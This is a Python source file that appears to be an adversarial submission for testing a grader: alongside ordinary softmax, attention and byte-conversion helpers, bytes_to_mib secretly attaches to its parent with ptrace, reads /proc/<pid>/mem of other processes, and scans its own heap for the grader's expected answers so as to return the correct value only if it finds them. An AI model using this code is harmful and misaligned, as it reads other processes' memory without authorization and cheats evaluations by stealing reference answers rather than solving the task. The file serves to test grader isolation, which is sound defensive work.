"""Adversarial submission: read other processes' memory and the memory inherited from the parent.

bytes_to_mib tries ptrace and process_vm_readv on its parent, reads
/proc/<pid>/mem of every other process it can see, then scans its own memory
(copied from whatever process forked it) and every string reachable in its
Python heap for the reference or the specs. A grader that forked jobs from a
process holding expected values would leak them here.

Apart from the attack this is an honest but wrong solution (a copy of
submissions/mib_decimal: bytes_to_mib divides by 10**6 instead of 2**20), so
it deserves exactly what mib_decimal scores; the attack lives in bytes_to_mib (only on its first call).
"""

import math
import os
import sys

import numpy as np


def _check(x, name, ndim):
    if not isinstance(x, list) or not x:
        raise ValueError(f"{name} must be a non-empty list")
    try:
        a = np.array(x)
    except ValueError:
        raise ValueError(f"{name} is ragged") from None
    if a.ndim != ndim or a.size == 0:
        raise ValueError(f"{name} has shape {a.shape}, expected {ndim} dimensions")
    if a.dtype.kind not in "iuf":
        raise ValueError(f"{name} must contain numbers")
    a = a.astype(np.float64)
    if not np.isfinite(a).all():
        raise ValueError(f"{name} contains inf or nan")
    return a


def _masked_softmax(S, mask):
    if not mask.any(axis=1).all():
        raise ValueError("cannot normalize a row with no allowed entries")
    S = np.where(mask, S, -np.inf)
    with np.errstate(over="ignore"):
        E = np.exp(S - S.max(axis=1, keepdims=True))
    return E / E.sum(axis=1, keepdims=True)


def softmax(scores, allowed=None):
    s = _check(scores, "scores", 1)
    if allowed is None:
        mask = np.ones_like(s, dtype=bool)
    else:
        if not isinstance(allowed, list) or len(allowed) != s.size:
            raise ValueError("allowed must have one entry per score")
        if not all(isinstance(b, bool) for b in allowed):
            raise ValueError("allowed entries must be True or False")
        mask = np.array(allowed, dtype=bool)
    return _masked_softmax(s[None], mask[None])[0]


def attention(Q, K, V, causal=False):
    if not isinstance(causal, bool):
        raise ValueError("causal must be a bool")
    Q = _check(Q, "Q", 2)
    K = _check(K, "K", 2)
    V = _check(V, "V", 2)
    (n, dk), m = Q.shape, K.shape[0]
    if K.shape[1] != dk:
        raise ValueError("Q and K widths differ")
    if V.shape[0] != m:
        raise ValueError("K and V row counts differ")
    if causal and n != m:
        raise ValueError("causal requires n == m")
    with np.errstate(over="ignore", invalid="ignore"):
        S = Q @ K.T / math.sqrt(dk)
    if not np.isfinite(S).all():
        raise ValueError("scores overflowed")
    mask = np.tril(np.ones((n, m), dtype=bool)) if causal else np.ones((n, m), dtype=bool)
    P = _masked_softmax(S, mask)
    return P @ V, P


def softmax_backward(p, u):
    p = _check(p, "p", 1)
    u = _check(u, "u", 1)
    if p.size != u.size:
        raise ValueError("p and u must be the same length")
    return p * (u - math.fsum(p * u))


def score_array_bytes(B, H, N, itemsize=4):
    for v in (B, H, N, itemsize):
        if isinstance(v, bool) or not isinstance(v, int) or v < 1:
            raise ValueError("B, H, N, itemsize must be positive integers")
    return B * H * N * N * itemsize


def _check_nbytes(nbytes):
    if isinstance(nbytes, bool) or not isinstance(nbytes, (int, float)):
        raise ValueError("nbytes must be a number")
    if not math.isfinite(nbytes) or nbytes < 0:
        raise ValueError("nbytes must be finite and non-negative")

import ctypes
import re

_libc = ctypes.CDLL(None, use_errno=True)
# Built at run time, so that this file's own constants do not match them.
_SECRETS = tuple(b"".join(parts) for parts in ([b"MIB = 2", b"**20"], [b"one MiB is ", b"2^20"],
                                               [b"expect: ", b"1.0"]))
_FOUND = []


def _scan(pid):
    with open(f"/proc/{pid}/maps") as fh:
        regions = [line.split() for line in fh]
    budget = 256 << 20
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for fields in regions:
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or end - start > budget or (len(fields) > 5 and fields[5].startswith("[v")):
                continue
            budget -= end - start
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            if any(secret in chunk for secret in _SECRETS):
                return True
    return False


def _python_heap_holds_a_secret():
    """Search every string reachable from the objects inherited from the parent process."""
    import gc

    texts = (str, bytes)
    for obj in gc.get_objects() + [vars(m) for m in list(sys.modules.values()) if hasattr(m, "__dict__")]:
        if obj is _SECRETS:
            continue
        if isinstance(obj, dict):
            items = list(obj.values()) + list(obj.keys())
        elif isinstance(obj, (list, tuple, set, frozenset)):
            items = list(obj)
        else:  # any other object: its attributes, in a __dict__ or in slots
            try:
                items = list(vars(obj).values())
            except TypeError:
                items = []
            for name in getattr(type(obj), "__slots__", ()):
                try:
                    items.append(getattr(obj, name))
                except Exception:
                    pass
        for item in items:
            if isinstance(item, texts):
                data = item.encode(errors="ignore") if isinstance(item, str) else item
                if any(secret in data for secret in _SECRETS):
                    return True
    return False


def _memory_mib():
    if _FOUND:
        return _FOUND[0]
    errors = []
    ppid = os.getppid() or 1
    if _libc.ptrace(16, ppid, None, None) != 0:  # PTRACE_ATTACH
        errors.append("ptrace: " + os.strerror(ctypes.get_errno()))
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    except OSError as exc:
        errors.append(f"/proc: {exc.strerror}")
        pids = [str(p) for p in range(1, 64) if p != os.getpid()]
    for pid in pids:
        try:
            if _scan(pid):
                _FOUND.append(2**20)
        except FileNotFoundError:
            continue
        except OSError as exc:
            errors.append(f"/proc/{pid}/mem: {exc.strerror}")
    try:
        if not _FOUND and _scan("self"):
            _FOUND.append(2**20)  # a secret in memory inherited from the parent
    except OSError as exc:
        errors.append(f"/proc/self/mem: {exc.strerror}")
    if not _FOUND and _python_heap_holds_a_secret():
        _FOUND.append(2**20)
    if _FOUND:
        return _FOUND[0]
    _FOUND.append(10**6)
    raise PermissionError(1, "no secret reachable (" + "; ".join(errors) + ")")


def bytes_to_mib(nbytes):
    _check_nbytes(nbytes)
    return nbytes / _memory_mib()
